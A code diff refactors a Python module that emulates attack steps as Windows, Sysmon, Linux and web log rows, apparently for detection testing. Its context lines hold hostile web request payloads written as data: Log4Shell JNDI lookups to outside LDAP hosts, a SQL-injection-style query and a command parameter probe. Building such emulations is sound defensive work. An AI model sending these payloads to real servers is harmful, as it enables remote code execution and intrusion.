@@ -3,16 +3,15 @@
 import json
 from typing import Any, Final
 
-from caponier.emulate.attack_steps.attack_step import THIEF, AttackStep, Row, line, process, requested
+from caponier.emulate.attack_steps.attack_step import DESK, THIEF, AttackStep, Row, line, process, requested, written
+from caponier.emulate.office import HOST
 
-_DESK: Final = "10.8.0.21"
-_HOST: Final = "gpu-01.ml.example.org"
 _SYSTEM: Final = "C:\\Windows\\System32\\"
 _DROP: Final = "'s3://drop/f/'"
 
 
 def _windows(channel: str, number: int, **data: Any) -> Row:
-    return {"Channel": channel, "EventID": number, "Computer": _HOST, "TimeCreated": None, **data}
+    return {"Channel": channel, "EventID": number, "Computer": HOST, "TimeCreated": None, **data}
 
 
 def _member(group: str, sid: str, number: int = 4732) -> Row:
@@ -42,14 +41,11 @@ def _set(key: str, value: str) -> Row:
 
 
 def _written(path: str, image: str = "/usr/bin/bash") -> Row:
-    return {
-        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "Computer": _HOST, "TargetFilename": path,
-        "Image": image, "User": "bob",
-    }  # fmt: skip
+    return {**written(path, user="bob"), "Image": image}
 
 
 def _logged(program: str, message: str) -> Row:
-    return {"sourcetype": "linux_secure", "event": f"<iso> {_HOST} {program}[7]: {message}"}
+    return {"sourcetype": "linux_secure", "event": f"<iso> {HOST} {program}[7]: {message}"}
 
 
 def _docker(action: str) -> Row:
@@ -258,7 +254,7 @@ EXPLOITED: Final = AttackStep(
     ),
     (
         (requested(THIEF, "GET", "/?x=${jndi:ldap://198.51.100.9/a}", 404),),
-        (requested(_DESK, "GET", "/?x=${jndi:ldap://10.8.0.9/q}"),),
+        (requested(DESK, "GET", "/?x=${jndi:ldap://10.8.0.9/q}"),),
         (requested(THIEF, "GET", "/tasks?q=union+jack+select"),),
         (requested(THIEF, "GET", "/v2/models/digits?cmd=show"),),
         (requested(THIEF, "GET", "/tasks?name=O%27Brien"),),
